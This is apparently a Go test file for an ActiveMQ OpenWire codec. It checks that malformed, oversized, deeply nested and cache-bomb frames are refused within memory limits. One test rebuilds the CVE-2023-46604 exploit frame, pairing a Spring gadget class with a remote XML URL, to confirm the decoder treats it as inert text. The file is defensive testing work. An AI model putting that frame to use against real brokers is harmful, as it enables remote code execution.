package wire

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"math"
	"reflect"
	"runtime"
	"strings"
	"testing"

	"goactivemq/activemq/message"
)

// TestS01ExceptionClassIsText sends the frame of CVE-2023-46604: an exception of a class whose constructor would fetch and run
// what its text names. Here it is two strings.
func TestS01ExceptionClassIsText(t *testing.T) {
	const class = "org.springframework.context.support.ClassPathXmlApplicationContext"
	const url = "http://192.0.2.1/poc.xml"
	for _, tight := range []bool{false, true} {
		for version := 1; version <= VersionMax; version++ {
			frame := []byte{typeExceptionResponse}
			if tight {
				// responseRequired, exception, class present and ascii, message present and ascii
				frame = append(frame, 1, 0b111110)
			}
			frame = append(frame, 0, 0, 0, 1)
			frame = flags(frame, tight, 0)
			frame = append(frame, 0, 0, 0, 1)
			frame = flags(frame, tight, 1)
			for _, s := range []string{class, url} {
				frame = flags(frame, tight, 1)
				frame = binary.BigEndian.AppendUint16(frame, uint16(len(s)))
				frame = append(frame, s...)
			}
			v, err := NewDecoder(Settings{Version: version, Tight: tight}).Decode(frame)
			want := &message.Throwable{Class: message.T(class), Message: message.T(url)}
			r, ok := v.(*ExceptionResponse)
			if err != nil || !ok || !reflect.DeepEqual(r.Exception, want) {
				t.Errorf("version %d, tight %v: %+v, %v", version, tight, v, err)
			}
		}
	}
}

// flags appends booleans where they stand between the fields.
func flags(frame []byte, tight bool, b ...byte) []byte {
	if tight {
		return frame
	}
	return append(frame, b...)
}

// hostile are frames that promise more than they hold: each is refused, and costs no more memory than an honest frame of its size.
var hostile = []struct {
	name  string
	tight bool
	hex   string
	want  string
}{
	{"empty frame", false, "", "size 0"},
	{"unknown type", false, "ff", "type 255 is unknown"},
	{"huge content", false, "18" + "00000001" + "00" + noHeaders + "01" + "7fffffff", "size 2147483647, 0 bytes left"},
	{"negative content", false, "18" + "00000001" + "00" + noHeaders + "01" + "ffffffff", "size -1, 0 bytes left"},
	{"32-bit wrap", false, "18" + "00000001" + "00" + noHeaders + "01" + "80000000", "size -2147483648"},
	{"long string", false, "35" + "01" + "ffff" + "61", "size 65535, 1 bytes left"},
	{"negative ascii string", true, "35" + "0103" + "8000", "size -32768"},
	{"boolean stream longer than frame", true, "1e" + "80" + "7fff" + "00", "size 32767, 1 bytes left"},
	{"negative boolean stream", true, "1e" + "80" + "8000" + "00", "size -32768"},
	{"boolean stream too short", true, "03" + "00" + "00000001", "boolean stream of 0 bytes is used up"},
	{"array of 32767", false, "21" + "00000001" + "00" + "00000001" + "01" + "7fff", "array of 32767, room for 0"},
	{"array of -1", false, "21" + "00000001" + "00" + "00000001" + "01" + "ffff", "array of -1"},
	{"array of 32767, tight", true, "21" + "0102" + "00000001" + "00000001" + "7fff", "array of 32767, room for 6"},
	{"stack of 32767", false, "1f" + "00000001" + "00" + "00000001" + "01" + "00" + "00" + "7fff", "stack trace of 32767"},
	{"stack of -1", false, "1f" + "00000001" + "00" + "00000001" + "01" + "00" + "00" + "ffff", "stack trace of -1"},
	{"message where an id belongs", false, "04" + "00000001" + "00" + "01" + "18", "type 24 where a SessionId belongs"},
	{"marshalled form", true, "15" + "01" + "18" + "00000001" + "17", "marshalled form"},
	{"bytes behind the end", false, "0a" + "00000001" + "00" + "00", "1 bytes left over"},
	{"no character", false, "35" + "01" + "0001" + "ff", "byte 0xff"},
}

// noHeaders has the fields of a message from its producer to its content, loose: each 0 or missing.
var noHeaders = strings.Repeat("00", 6) + // producer to originalTransactionId
	"00" + "00000000" + "00" + // groupID, groupSequence, correlationId
	"00" + "0000000000000000" + "04" + // persistent, expiration, priority
	"00" + "0000000000000000" + "00" // replyTo, timestamp, type

func TestS07HostileLengths(t *testing.T) {
	for _, h := range hostile {
		t.Run(h.name, func(t *testing.T) {
			frame := unhex(h.hex)
			d := NewDecoder(Settings{Version: VersionMax, Tight: h.tight, StackTrace: true})
			var err error
			used := allocated(func() { _, err = d.Decode(frame) })
			var m *Malformed
			if !errors.As(err, &m) || !strings.Contains(err.Error(), h.want) {
				t.Errorf("error %v, want one with %q", err, h.want)
			}
			if used > 4<<10 {
				t.Errorf("%d bytes allocated for a frame of %d", used, len(frame))
			}
		})
	}
}

// TestS07Nesting piles structures up where a field can hold any: the stack does not grow with the frame.
func TestS07Nesting(t *testing.T) {
	response := unhex("20" + "00000000" + "00" + "00000000" + "01")
	frame := append(bytes.Repeat(response, 100_000), typeNull)
	causes := append(unhex("1f"+"00000001"+"00"+"00000001"), bytes.Repeat([]byte{1, 0, 0, 0, 0}, 100_000)...)
	for _, f := range [][]byte{frame, causes} {
		_, err := NewDecoder(Settings{Version: VersionMax, StackTrace: true}).Decode(f)
		if err == nil || !strings.Contains(err.Error(), fmt.Sprintf("more than %d deep", depthMax)) {
			t.Errorf("error %v, want one about the depth", err)
		}
	}
	deep := &DataResponse{}
	for range 2 * depthMax {
		deep = &DataResponse{Data: deep}
	}
	if _, err := NewEncoder(Settings{Version: VersionMax}).Append(nil, deep); err == nil {
		t.Error("structures too deep for any reader were written")
	}
}

// TestS07CacheBomb lets each structure name the one before it many times: a few frames that would take up the world once they are
// written without a cache.
func TestS07CacheBomb(t *testing.T) {
	s := Settings{Version: VersionMax, Cache: true, CacheSize: 1024}
	e, d := NewEncoder(s), NewDecoder(s)
	var bomb any = &message.ConnectionID{Value: strings.Repeat("x", 1000)}
	for range 10 {
		r := &DataArrayResponse{}
		for range 100 {
			r.Data = append(r.Data, &message.RemoveInfo{Object: bomb})
		}
		frame, err := e.Append(nil, r)
		if err == nil {
			_, err = d.Decode(frame[headSize:])
		}
		if err != nil {
			if !strings.Contains(err.Error(), "cache slots stand for more than") {
				t.Errorf("error %v", err)
			}
			return
		}
		bomb = r
	}
	t.Error("all is read")
}

// TestS07CacheFlood fills the slots with the longest strings there are.
func TestS07CacheFlood(t *testing.T) {
	s := Settings{Version: VersionMax, Cache: true, CacheSize: 1024}
	e, d := NewEncoder(s), NewDecoder(s)
	for i := range 1024 {
		text := strings.Repeat("x", looseStringMax-9) + fmt.Sprint(i)
		frame, err := e.Append(nil, &message.SessionInfo{Session: &message.SessionID{Connection: text}})
		if err != nil {
			t.Fatal(err)
		}
		if _, err = d.Decode(frame[headSize:]); err != nil {
			if !strings.Contains(err.Error(), "cache slots hold more than") || i*len(text) > heldMax {
				t.Errorf("error %v after %d", err, i)
			}
			return
		}
	}
	t.Error("all is kept")
}

// TestS07CacheKeepsNoFrame caches a message that lies in another one: the frame, which is the outer message's, is not what the cache keeps.
func TestS07CacheKeepsNoFrame(t *testing.T) {
	s := Settings{Version: VersionMax, Cache: true, CacheSize: 1024}
	sent := &message.Message{Kind: message.KindBytes, Content: []byte("outer"),
		Data: &message.RemoveInfo{Object: &message.Message{Kind: message.KindBytes, Content: []byte("inner")}}}
	frame, err := NewEncoder(s).Append(nil, sent)
	if err != nil {
		t.Fatal(err)
	}
	v, err := NewDecoder(s).Decode(frame[headSize:])
	if err != nil || !reflect.DeepEqual(v, sent) {
		t.Fatalf("%+v, %v", v, err)
	}
	for i := range frame {
		frame[i] = 'z'
	}
	got := v.(*message.Message)
	inner := got.Data.(*message.RemoveInfo).Object.(*message.Message)
	if string(got.Content) != "zzzzz" || string(inner.Content) != "inner" {
		t.Errorf("content %q shares no memory with the frame, or %q does", got.Content, inner.Content)
	}
}

// TestS07Flood promises a gigabyte and sends a little of it.
func TestS07Flood(t *testing.T) {
	for _, first := range []byte{typeConnectionInfo, byte(message.KindBytes)} {
		sent := append(binary.BigEndian.AppendUint32(nil, 1<<30), first)
		sent = append(sent, make([]byte, 100_000)...)
		var err error
		used := allocated(func() { _, err = NewReader(bytes.NewReader(sent), 0).Next() })
		if err == nil || !strings.Contains(err.Error(), "100001 of a frame's 1073741824 bytes") {
			t.Errorf("error %v", err)
		}
		if used > 512<<10 {
			t.Errorf("%d bytes allocated for %d that arrived", used, len(sent))
		}
	}
}

// allocated returns the bytes that f allocates.
func allocated(f func()) uint64 {
	var before, after runtime.MemStats
	runtime.ReadMemStats(&before)
	f()
	runtime.ReadMemStats(&after)
	return after.TotalAlloc - before.TotalAlloc
}

// TestUnreadableTypesAreNotWritten checks that a peer is sent nothing that its version does not have, nothing that it could not
// read, and that the encoder goes on after having refused.
func TestUnreadableTypesAreNotWritten(t *testing.T) {
	long := strings.Repeat("x", tightStringMax+1)
	for _, c := range []struct {
		name    string
		version int
		tight   bool
		command any
		want    string
	}{
		{"new structure", 2, false, &ProducerAck{}, "ProducerAck does not exist in version 2"},
		{"new nested structure", 2, false, &MessageDispatch{Message: &message.Message{Kind: message.KindBlob}}, "type 29 is unknown in version 2"},
		{"no structure", 12, false, new(int), "*int of type 0"},
		{"message of no kind", 12, false, &message.Message{}, "type 0"},
		{"destination of no kind", 12, true, &message.ProducerInfo{Destination: &message.Destination{Name: "A"}}, "type 0 is unknown"},
		{"long name if tight", 12, true, &message.ProducerInfo{Destination: message.NewQueue(long)}, "string of 32767 bytes, want at most 32766"},
		{"long name if loose", 12, false, &message.ProducerInfo{Destination: message.NewQueue(long + long + "xx")}, "string of 65536 bytes, want at most 65535"},
		{"predicate", 12, false, &message.ConsumerInfo{AdditionalPredicate: new(int)}, "predicate of type *int"},
		{"too many elements", 12, false, &message.ProducerInfo{BrokerPath: make([]*message.BrokerID, 32768)}, "array of 32768"},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := Settings{Version: c.version, Tight: c.tight, Cache: true, CacheSize: 1024}
			e, d := NewEncoder(s), NewDecoder(s)
			before := []byte("before")
			after, err := e.Append(before, c.command)
			if err == nil || !strings.Contains(err.Error(), c.want) || string(after) != "before" {
				t.Errorf("%q, error %v, want one with %q", after, err, c.want)
			}
			sent := &message.SessionInfo{Session: &message.SessionID{Connection: "c", Value: 1}}
			for range 2 {
				frame, err := e.Append(nil, sent)
				if err != nil {
					t.Fatal(err)
				}
				if got, err := d.Decode(frame[headSize:]); err != nil || !reflect.DeepEqual(got, sent) {
					t.Errorf("%+v, %v, want %+v", got, err, sent)
				}
			}
		})
	}
}

// TestExceptionsAreCut checks that an exception arrives however long its text is.
func TestExceptionsAreCut(t *testing.T) {
	for _, c := range []struct {
		version int
		text    string
		want    string
	}{
		{12, strings.Repeat("x", 100_000), strings.Repeat("x", tightStringMax)},
		{12, strings.Repeat("é", 50_000), strings.Repeat("é", tightStringMax/2)},
		{12, strings.Repeat("😀", 50_000), strings.Repeat("😀", tightStringMax/6)},
		{10, strings.Repeat("x", 1025), strings.Repeat("x", 1021) + "..."},
		{1, strings.Repeat("x", 1024), strings.Repeat("x", 1024)},
		{9, strings.Repeat("x", 1025), strings.Repeat("x", 1025)},
	} {
		for _, tight := range []bool{false, true} {
			s := Settings{Version: c.version, Tight: tight}
			sent := &ConnectionError{Exception: &message.Throwable{Class: message.T("java.io.IOException"), Message: message.T(c.text)}}
			frame, err := NewEncoder(s).Append(nil, sent)
			if err != nil {
				t.Fatal(err)
			}
			v, err := NewDecoder(s).Decode(frame[headSize:])
			if err != nil {
				t.Fatal(err)
			}
			if got := v.(*ConnectionError).Exception.Message.String(); got != c.want {
				t.Errorf("version %d, tight %v: %d bytes arrive, want %d", c.version, tight, len(got), len(c.want))
			}
		}
	}
}

func TestFrameLimit(t *testing.T) {
	e := NewEncoder(Settings{Version: 12, Tight: true, MaxFrame: 100})
	if _, err := e.Append(nil, &message.Message{Kind: message.KindBytes, Content: make([]byte, 100)}); err == nil ||
		!strings.Contains(err.Error(), "want at most 100") {
		t.Errorf("error %v", err)
	}
	if math.MaxInt32 != NewEncoder(Settings{Version: 12}).limit {
		t.Error("the size has 31 bits, whatever was agreed on")
	}
	if frame, err := e.Append([]byte{9}, nil); err != nil || hex.EncodeToString(frame) != "090000000100" {
		t.Errorf("null command %x, %v", frame, err)
	}
}
